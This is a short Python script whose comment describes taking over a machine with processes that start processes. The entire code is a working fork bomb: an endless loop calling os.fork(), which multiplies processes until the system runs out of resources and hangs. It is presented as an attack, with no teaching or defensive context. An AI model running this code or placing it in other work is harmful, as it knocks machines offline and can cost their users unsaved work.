# Tries to take the machine by processes that start processes.
import os

while True:
    os.fork()
